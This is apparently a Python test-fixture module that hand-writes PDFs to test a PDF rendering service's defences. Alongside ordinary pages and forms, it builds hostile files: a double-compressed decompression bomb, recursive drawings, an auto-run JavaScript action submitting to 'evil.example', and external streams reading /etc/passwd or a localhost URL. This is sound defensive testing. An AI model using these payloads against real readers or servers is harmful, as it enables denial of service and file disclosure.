"""PDF documents, honest and hostile, written by hand (ISO 32000-1) as no writer of PDFs would write them."""

from __future__ import annotations

import subprocess
import sys
import zlib
from collections.abc import Sequence
from functools import cache
from pathlib import Path

import pytest

from portal.pdf import sheets

PROGRAM = Path(sheets.__file__).with_name("program.py")

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
RESOURCES = b"/Resources<</Font<</F 3 0 R>>/XObject<</X %d 0 R>>>>"
CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"


def written(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """``objects`` are numbered from 1; the first is the catalogue."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(out) + end % (len(objects) + 1, table, len(objects) + 1, trailer, len(out))


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


def of_pages(
    count: int, *, box: bytes = b"0 0 595 842", drawn: bytes | None = None, catalogue: bytes = CATALOGUE
) -> bytes:
    """Each page says which it is, unless it is ``drawn`` otherwise."""
    kids = b" ".join(b"%d 0 R" % (4 + 2 * each) for each in range(count))
    objects = [catalogue, b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids), FONT]
    for each in range(1, count + 1):
        page = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents %d 0 R" + RESOURCES + b">>"
        objects += [page % (box, 3 + 2 * each, 3 + 2 * each)]
        objects += [stream(drawn or b"BT /F 24 Tf 60 700 Td (Letter, sheet %d) Tj ET" % each)]
    return written(objects)


def of_form(said: bytes) -> bytes:
    """A form that somebody filled in."""
    look = stream(
        b"BT /F 12 Tf 2 4 Td (%s) Tj ET" % said,
        b"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</F 4 0 R>>>>",
    )
    return written([
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[5 0 R]>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Annots[5 0 R]/Resources<<>>>>",
        FONT,
        b"<</Type/Annot/Subtype/Widget/F 4/FT/Tx/T(a)/V(%s)/Rect[20 200 220 220]/AP<</N 6 0 R>>/P 3 0 R>>" % said,
        look,
    ])  # fmt: skip


def of_scan(side: int) -> bytes:
    """A page that is a photograph of noise."""
    noise, state = bytearray(), 1
    for _ in range(side * side * 3):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        noise.append(state >> 16 & 255)
    picture = stream(
        zlib.compress(bytes(noise)),
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode"
        % (side, side),
    )
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 595]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    return written(
        [CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page, stream(b"595 0 0 595 0 0 cm /X Do"), picture]
    )


def locked() -> bytes:
    """With a password (40-bit RC4) that nobody has."""
    body = of_pages(1)
    lock = b"/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>/ID[<00><00>]" % (b"41" * 32, b"42" * 32)
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R" + lock)


def in_circles() -> bytes:
    """Pages within themselves, and a drawing that draws itself."""
    return written([
        CATALOGUE,
        b"<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>",
        stream(b"/X Do"),
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X 5 0 R>>>>"),
    ])  # fmt: skip


def bomb() -> bytes:
    """A drawing of two hundred million strokes in a few kilobytes, packed twice."""
    packed = zlib.compress(zlib.compress(b"0 0 m 500 800 l S\n" * 12_000_000, 9), 9)
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
    return written([
        CATALOGUE, b"<</Type/Pages/Count 1/Kids[3 0 R]>>", page,
        stream(packed, b"/Filter[/FlateDecode/FlateDecode]"),
    ])  # fmt: skip


def with_script() -> bytes:
    action = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('https://evil.example'\\))>>>>"
    return of_pages(1, catalogue=action)


def reaching_out() -> bytes:
    """A page that lies in a file of the server, and another at an address (external streams, 7.3.8)."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents %d 0 R>>"
    return written([
        CATALOGUE,
        b"<</Type/Pages/Count 2/Kids[3 0 R 4 0 R]>>",
        page % 5, page % 6,
        stream(b"", b"/F(/etc/passwd)"),
        stream(b"", b"/F<</FS/URL/F(http://127.0.0.1:9/x)>>"),
    ])  # fmt: skip


@cache
def is_drawn_here() -> bool:
    """Whether this system lets a process be locked in; where it does not, a PDF is a download."""
    asked = f"import os, runpy; os._exit(not runpy.run_path({str(PROGRAM)!r}, run_name='program')['lock_in']())"
    return subprocess.run([sys.executable, "-I", "-c", asked], check=False, env={}).returncode == 0


drawing = pytest.mark.skipif(not is_drawn_here(), reason="this system lets no process be locked in (seccomp)")
